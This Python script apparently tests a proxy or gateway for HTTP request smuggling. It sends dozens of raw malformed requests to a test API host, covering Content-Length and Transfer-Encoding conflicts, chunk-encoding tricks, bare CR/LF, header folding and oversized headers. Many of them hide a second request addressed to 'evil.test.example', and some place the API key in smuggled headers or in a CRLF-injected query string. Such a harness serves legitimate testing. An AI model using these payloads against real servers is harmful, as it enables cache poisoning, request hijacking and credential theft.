"""Requests that two readers may read in two ways. The hidden one would be for /smuggled."""

import os

from attack import attempt, get, https, raw, report, tcp, tls

API, EVIL = "api.test.example", "evil.test.example"
KEY = os.environ["API_KEY"]
HIDDEN = f"GET /smuggled HTTP/1.1\r\nHost: {EVIL}\r\nX-Attempt: smuggled\r\n\r\n"


def bytes_of(name, data, wrap=True, quiet=1.5):
    def run():
        with tls(API) if wrap else tcp(API, 80) as sock:
            answer = raw(sock, data, quiet)
            return {
                **answer,
                "statuses": [
                    int(line.split()[1]) for line in answer["received"].split("\r\n") if line.startswith("HTTP/1.")
                ],
            }

    run.__name__ = name
    attempt(run)


def post(name, headers, body, line=None, **more):
    bytes_of(
        name,
        (line or f"POST /{name} HTTP/1.1") + f"\r\nHost: {API}\r\nX-Attempt: {name}\r\n" + headers + "\r\n" + body,
        **more,
    )


H = len(HIDDEN)
post("cl_te", f"Content-Length: {H + 5}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + HIDDEN)
post("te_cl", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", f"{H:x}\r\n{HIDDEN}\r\n0\r\n\r\n")
post("two_cl", f"Content-Length: 0\r\nContent-Length: {H}\r\n", HIDDEN)
post("two_cl_same", "Content-Length: 3\r\nContent-Length: 3\r\n", "abc" + HIDDEN)
post("cl_list", f"Content-Length: 0, {H}\r\n", HIDDEN)
post("cl_plus", "Content-Length: +0\r\n", HIDDEN)
post("cl_hex", "Content-Length: 0x0\r\n", HIDDEN)
post("cl_negative", "Content-Length: -1\r\n", HIDDEN)
post("cl_space", f"Content-Length : {H}\r\n", HIDDEN)
post("cl_huge", "Content-Length: 99999999999999999999999\r\n", HIDDEN)
post("te_identity", "Transfer-Encoding: identity\r\n", HIDDEN)
post("te_two", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + HIDDEN)
post("te_list", "Transfer-Encoding: identity, chunked\r\n", "0\r\n\r\n" + HIDDEN)
post("te_not_last", "Transfer-Encoding: chunked, gzip\r\n", "0\r\n\r\n" + HIDDEN)
post("te_tab", "Transfer-Encoding:\tchunked\r\n" + f"Content-Length: {H + 5}\r\n", "0\r\n\r\n" + HIDDEN)
post("te_vertical_tab", "Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n" + HIDDEN)
post("te_misspelt", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + HIDDEN)
post("te_folded", "Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n" + HIDDEN)
post("te_quoted", 'Transfer-Encoding: "chunked"\r\n', "0\r\n\r\n" + HIDDEN)
post(
    "te_http10",
    "Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n",
    "0\r\n\r\n" + HIDDEN,
    line="POST /te_http10 HTTP/1.0",
)
post("chunk_bare_lf", "Transfer-Encoding: chunked\r\n", "1\na\n0\n\n" + HIDDEN)
post("chunk_extension_lf", "Transfer-Encoding: chunked\r\n", f"1;\nxx\r\na\r\n0\r\n\r\n{HIDDEN}")
post("chunk_hex_prefix", "Transfer-Encoding: chunked\r\n", "0x1\r\na\r\n0\r\n\r\n" + HIDDEN)
post("chunk_negative", "Transfer-Encoding: chunked\r\n", "-1\r\na\r\n0\r\n\r\n" + HIDDEN)
post("chunk_overflow", "Transfer-Encoding: chunked\r\n", "10000000000000001\r\na\r\n0\r\n\r\n" + HIDDEN)
post("chunk_space", "Transfer-Encoding: chunked\r\n", " 1\r\na\r\n0\r\n\r\n" + HIDDEN)
post("chunk_no_crlf_after", "Transfer-Encoding: chunked\r\n", "1\r\naXX0\r\n\r\n" + HIDDEN)
post("chunk_endless_extension", "Transfer-Encoding: chunked\r\n", "1;" + "x" * 300_000 + "\r\na\r\n0\r\n\r\n")
post(
    "trailer_smuggles_length",
    "Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n",
    f"0\r\nContent-Length: {H}\r\nHost: {EVIL}\r\nTransfer-Encoding: chunked\r\nAuthorization: Bearer {KEY}\r\n\r\n",
)
bytes_of("bare_lf", f"GET /bare_lf HTTP/1.1\nHost: {API}\nX-Attempt: bare_lf\n\n" + HIDDEN.replace("\r\n", "\n"))
bytes_of("bare_cr", f"GET /bare_cr HTTP/1.1\rHost: {API}\rX-Attempt: bare_cr\r\r" + HIDDEN)
bytes_of(
    "bare_cr_in_value",
    f"GET /bare_cr_in_value HTTP/1.1\r\nHost: {API}\r\nX-A: 1\rHost: {EVIL}\r\nX-Attempt: bare_cr_in_value\r\n\r\n",
)
bytes_of(
    "lf_in_value", f"GET /lf_in_value HTTP/1.1\r\nHost: {API}\r\nX-A: 1\nHost: {EVIL}\r\nX-Attempt: lf_in_value\r\n\r\n"
)
bytes_of("nul_in_value", f"GET /nul_in_value HTTP/1.1\r\nHost: {API}\r\nX-A: 1\0\r\nX-Attempt: nul_in_value\r\n\r\n")
bytes_of("obs_fold", f"GET /obs_fold HTTP/1.1\r\nHost: {API}\r\nX-A: 1\r\n Host: {EVIL}\r\nX-Attempt: obs_fold\r\n\r\n")
bytes_of(
    "folded_first_header",
    f"GET /folded_first HTTP/1.1\r\n Host: {EVIL}\r\nHost: {API}\r\nX-Attempt: folded_first_header\r\n\r\n",
)
bytes_of("header_without_colon", f"GET /no_colon HTTP/1.1\r\nHost: {API}\r\nX-Attempt header_without_colon\r\n\r\n")
bytes_of(
    "header_without_name", f"GET /no_name HTTP/1.1\r\nHost: {API}\r\n: x\r\nX-Attempt: header_without_name\r\n\r\n"
)
bytes_of("space_in_target", f"GET /a b HTTP/1.1\r\nHost: {API}\r\nX-Attempt: space_in_target\r\n\r\n")
bytes_of("tabs_in_line", f"GET\t/tabs\tHTTP/1.1\r\nHost: {API}\r\nX-Attempt: tabs_in_line\r\n\r\n")
bytes_of("version_2", f"GET /v HTTP/2.0\r\nHost: {API}\r\nX-Attempt: version_2\r\n\r\n")
bytes_of("version_odd", f"GET /v HTTP/1.1x\r\nHost: {API}\r\nX-Attempt: version_odd\r\n\r\n")
bytes_of("method_lower", f"get /method HTTP/1.1\r\nHost: {API}\r\nX-Attempt: method_lower\r\n\r\n")
bytes_of("method_odd", f"G<T /method HTTP/1.1\r\nHost: {API}\r\nX-Attempt: method_odd\r\n\r\n")
bytes_of(
    "body_of_get",
    f"GET /body_of_get HTTP/1.1\r\nHost: {API}\r\nX-Attempt: body_of_get\r\nContent-Length: {H}\r\n\r\n" + HIDDEN,
)
bytes_of(
    "pipelined",
    "".join(f"GET /pipelined HTTP/1.1\r\nHost: {API}\r\nX-Attempt: pipelined\r\n\r\n" for _ in range(8)) + HIDDEN,
)
bytes_of(
    "pipelined_1000",
    "".join(f"GET /many HTTP/1.1\r\nHost: {API}\r\nX-Attempt: many\r\n\r\n" for _ in range(1000)),
    quiet=3,
)
post("expect", "Content-Length: 5\r\nExpect: 100-continue\r\n", "hello")
post("expect_odd", f"Content-Length: {H}\r\nExpect: 200-ok\r\n", HIDDEN)
post("expect_without_body", "Expect: 100-continue\r\nContent-Length: 5\r\n", "")
post(
    "hop_by_hop",
    f"Connection: Host, Authorization, X-Attempt\r\nContent-Length: 0\r\nAuthorization: Bearer {KEY}\r\n",
    "",
)
post("placeholder_with_breaks", f"Content-Length: 0\r\nX-Key: {KEY}\r\n\tfolded\r\n", "")
post("query_breaks", "Content-Length: 0\r\n", "", line=f"POST /query_breaks?key={KEY}%0d%0aX-Injected:%201 HTTP/1.1")
bytes_of(
    "many_headers",
    f"GET /many_headers HTTP/1.1\r\nHost: {API}\r\nX-Attempt: many_headers\r\n"
    + "".join(f"X-{index}: 1\r\n" for index in range(5000))
    + "\r\n",
)
bytes_of(
    "long_header", f"GET /long_header HTTP/1.1\r\nHost: {API}\r\nX-Attempt: long_header\r\nX-A: {'a' * 300_000}\r\n\r\n"
)
bytes_of("long_target", f"GET /{'a' * 300_000} HTTP/1.1\r\nHost: {API}\r\nX-Attempt: long_target\r\n\r\n")


def fetch(path):
    """Upstreams that answer in two ways."""

    def run():
        with tls(API) as sock:
            return raw(
                sock,
                get(API, f"/{path}", headers=[("X-Attempt", path)])
                + get(API, "/after", headers=[("X-Attempt", "after")]),
                2,
            )

    run.__name__ = path
    attempt(run)


for path in (
    "answer_cl_te",
    "answer_two_cl",
    "answer_1xx_flood",
    "answer_split",
    "answer_early",
    "answer_endless_headers",
    "answer_bad_chunk",
):
    fetch(path)


@attempt
def afterwards():
    return https(API, get(API, "/afterwards", headers=[("X-Attempt", "afterwards")]))


report(threads=8)
